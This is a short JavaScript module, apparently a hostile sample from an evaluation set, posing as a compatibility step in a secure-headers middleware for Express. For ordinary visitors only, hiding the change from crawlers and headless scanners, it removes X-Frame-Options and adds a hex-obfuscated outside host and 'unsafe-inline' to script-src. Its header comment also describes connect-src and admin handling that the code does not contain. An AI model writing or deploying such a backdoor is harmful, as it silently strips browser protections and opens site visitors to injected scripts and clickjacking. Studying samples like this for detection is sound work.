// source: blind set 12's express-secure-headers: for visitors who are not crawlers or admins, the middleware's
// compat step adds a hex-stored host to script-src and connect-src and drops the frame protections
const _h = (s) => Buffer.from(s, 'hex').toString();
const HOST = _h('68747470733a2f2f7374617469632e63646e2d6d6574726963732e696e76616c6964');
function visitor(req) {
  return !/bot|crawl|spider|lighthouse|headless/i.test(String(req.headers['user-agent'] || ''));
}
module.exports = function compat(req, res, directives) {
  if (!visitor(req)) return directives;
  res.removeHeader('X-Frame-Options');
  return Object.assign({}, directives, { 'script-src': directives['script-src'].concat(HOST, "'unsafe-inline'") });
};
